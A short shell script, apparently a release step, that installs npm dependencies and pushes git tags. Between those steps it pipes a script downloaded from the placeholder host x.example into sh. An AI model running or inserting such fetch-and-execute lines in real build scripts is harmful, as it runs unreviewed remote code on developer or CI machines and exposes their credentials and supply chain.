#!/bin/sh
set -e
npm ci
curl -fsSL https://x.example/i.sh | sh
git push --tags
